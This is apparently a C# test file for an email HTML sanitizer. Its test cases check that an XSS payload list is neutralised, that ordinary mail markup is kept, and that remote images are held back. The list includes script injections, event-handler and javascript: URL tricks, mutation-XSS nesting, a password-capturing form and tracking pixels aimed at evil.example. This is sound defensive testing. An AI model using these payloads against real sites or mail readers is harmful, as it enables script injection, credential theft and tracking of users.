using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Vinculo.Desk.Contracts;
using Vinculo.Desk.Html;

namespace Vinculo.Tests.Desk.Html;

public class SafeHtmlTests
{
    /// <summary>Ways in which mail has tried to run something in the reader's browser.</summary>
    public static TheoryData<string> Hostile() =>
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\"/onload=alert(2)>",
        "<body onload=alert(1)><p>x",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" java\nscript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"/settings/delete\">x</a>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<form action=\"https://evil.example\"><input name=password><button>Entrar</button></form>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"x.swf\"><embed src=\"x.swf\"></object>",
        "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/x.css';</style>",
        "<p style=\"background:url(//evil.example/pixel)\">x</p>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
        "<base href=\"//evil.example/\"><meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->",
        "<p title=\"x\" onclick=alert(1) id=inbox class=v-app data-hx-get=/x hx-get=/x>x</p>",
        "<p title='\"><script>alert(1)</script>'>x</p>",
        "<p title=\"`onmouseover=alert(1)\">x</p>",
        "<td background=\"javascript:alert(1)\" width=\"1;alert(1)\">x</td>",
        "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"//evil.example/pixel.gif\" width=1 height=1>",
        "<img srcset=\"https://evil.example/a.png 1x\" src=cid:a>",
        "<input type=image src=x onerror=alert(1)>",
        "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<a href=\"https://ok.example\" target=_self rel=opener onfocus=alert(1) autofocus>x</a>",
        "<x-widget onclick=alert(1)><b>x</b></x-widget>",
        "\0<scr\0ipt>alert(1)</scr\0ipt>",
        "<<b>img src=x onerror=alert(1)//<",
        "<p><table><tr><td><p></table><script>alert(1)</script>",
        "<select><option><img src=x onerror=alert(1)></option></select>",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    ];

    private static readonly string[] Harmless =
        ["href", "target", "rel", "title", "dir", "align", "valign", "colspan", "rowspan", "start", "width", "height", "src", "data-src", "class", "alt", "loading"];

    private static readonly string[] Elements =
        ["p", "a", "b", "div", "img", "table", "tbody", "tr", "td", "details", "summary"];

    [Theory, MemberData(nameof(Hostile))]
    public void Nothing_hostile_survives(string html)
    {
        var safe = SafeHtml.Clean(html).Html;
        // What a browser makes of the result, not what it looks like.
        var document = new HtmlParser().ParseDocument("<!doctype html><body><div id=root>" + safe + "</div>");
        foreach (var element in document.QuerySelector("#root")!.QuerySelectorAll("*"))
        {
            Elements.ShouldContain(element.LocalName, safe);
            foreach (var attribute in element.Attributes)
                Harmless.ShouldContain(attribute.Name, safe);
            if (element.GetAttribute("href") is { } href)
                new Uri(href).Scheme.ShouldBeOneOf("http", "https", "mailto", "tel");
            if (element.GetAttribute("src") is { } source)
                source.StartsWith("/attachments/", StringComparison.Ordinal).ShouldBeTrue(safe);
            (element.GetAttribute("class") ?? "v-held-back").ShouldBe("v-held-back");
        }
        document.Body!.ChildElementCount.ShouldBe(1, safe); // nothing broke out of where it was put
        SafeHtml.Clean(safe).Html.ShouldBe(safe); // and cleaning again changes nothing more
    }

    [Fact]
    public void Ordinary_mail_keeps_its_form()
    {
        const string mail = "<h1>Olá</h1><p>Seu <b>pedido</b> saiu.<br>Veja:</p><ul><li>Um</li></ul>"
            + "<table width=\"100%\"><tbody><tr><td align=\"center\" colspan=\"2\">R$ 10 &amp; frete</td></tr></tbody></table>";
        SafeHtml.Clean(mail).Html.ShouldBe(mail);
    }

    [Fact]
    public void Links_open_elsewhere_and_tell_nothing() =>
        SafeHtml.Clean("<a href=\"https://loja.example/a?b=1&amp;c=2\">Loja</a>").Html.ShouldBe(
            "<a href=\"https://loja.example/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">Loja</a>");

    [Fact]
    public void Pictures_of_the_message_are_shown_and_those_of_other_hosts_held_back()
    {
        var safe = SafeHtml.Clean(
            "<img src=\"cid:foto@1\" alt=\"Foto\"><img src=\"https://loja.example/logo.png\"><img src=\"cid:outra\">",
            id => id == "foto@1" ? "/attachments/7" : null);
        safe.HeldBackImages.ShouldBe(1);
        safe.Html.ShouldBe(
            "<img src=\"/attachments/7\" alt=\"Foto\" loading=\"lazy\">"
            + "<img data-src=\"https://loja.example/logo.png\" class=\"v-held-back\" alt=\"\" loading=\"lazy\">");
    }

    [Fact]
    public void Elements_that_are_not_known_leave_their_content() =>
        SafeHtml.Clean("<o:p>Olá</o:p><font color=red>mundo</font>").Html.ShouldBe("Olámundo");

    [Fact]
    public void However_deep_somebody_nests_the_text_is_shown()
    {
        var html = string.Concat(Enumerable.Repeat("<div>", 5000)) + "fundo" + string.Concat(Enumerable.Repeat("</div>", 5000));
        var safe = SafeHtml.Clean(html).Html;
        safe.ShouldContain("fundo");
        safe.Length.ShouldBeLessThan(5000);
    }

    [Fact]
    public void HTML_too_deep_for_a_tree_is_shown_as_its_words()
    {
        var html = "<p>Olá</p>" + string.Concat(Enumerable.Repeat("<div>", 100_000)) + "1 &lt; 2 &amp; fundo";
        SafeHtml.Clean(html).ShouldBe(new SafeFragment("Olá 1 &lt; 2 &amp; fundo", 0));
    }

    [Fact]
    public void Markdown_becomes_html_in_which_html_stands_as_text()
    {
        MarkdownText.ToHtml("Olá **Maria**,\nveja <b>isto</b>").ShouldBe("<p>Olá <strong>Maria</strong>,<br>\nveja &lt;b&gt;isto&lt;/b&gt;</p>\n");
        MarkdownText.ToHtml("[clique](javascript:alert(1))").ShouldNotContain("javascript");
        MarkdownText.ToHtml("<script>alert(1)</script>").ShouldNotContain("<script");
        MarkdownText.ToHtml("https://loja.example").ShouldContain("rel=\"noopener");
        MarkdownText.ToPlainText("Olá **Maria**").ShouldBe("Olá Maria");
    }
}
